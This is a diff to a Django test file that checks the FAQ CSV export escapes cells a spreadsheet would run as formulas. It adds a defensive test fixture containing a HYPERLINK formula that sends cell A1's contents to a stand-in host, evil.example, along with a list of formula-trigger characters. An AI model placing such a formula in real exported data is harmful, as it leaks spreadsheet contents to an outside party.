@@ -1,13 +1,14 @@
 """export_faq: CSV and JSONL that Excel opens and import_faq reads back as the same knowledge base."""
 
 import codecs
+import csv
 import io
 import json
 from io import StringIO
 
 import pytest
 from django.core.management import CommandError, call_command
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from apps.faq.importers import FaqExportError, faq_bytes_parse, faq_export_file, faq_import_file, faq_rows_render
@@ -147,9 +148,33 @@ _rows = st.lists(
 )
 
 
+# Cells a spreadsheet would run as formulas, and cells that already look escaped.
+_FORMULA_ROWS = [
+    FaqRow(
+        external_id="-f1",
+        question='=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
+        answer="- 手順1\n- 手順2",
+        category="@SUM(A1)",
+        tags=("+81", "＝１＋１"),
+        alt_questions=("'=すでにアポストロフィ付き", "''-二つ", "'普通のアポストロフィ"),
+    )
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text():
+    [_, line] = [text for _, text in faq_rows_render(_FORMULA_ROWS, fmt="csv")]
+
+    cells = next(csv.reader(io.StringIO(line)))
+    assert cells[:4] == ["'-f1", "'" + _FORMULA_ROWS[0].question, "'- 手順1\n- 手順2", "'@SUM(A1)"]
+    assert cells[4] == "'+81|＝１＋１"  # a spreadsheet reads only the start of a cell
+    assert cells[5] == "'" + "'=すでにアポストロフィ付き|''-二つ|'普通のアポストロフィ"
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠")]
+
+
 @pytest.mark.parametrize("fmt", ["csv", "jsonl"])
 @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(rows=_rows)
+@example(rows=_FORMULA_ROWS)
 def test_any_valid_rows_survive_render_and_parse(fmt, rows):
     data = "".join(text for _, text in faq_rows_render(rows, fmt=fmt)).encode("utf-8")
 
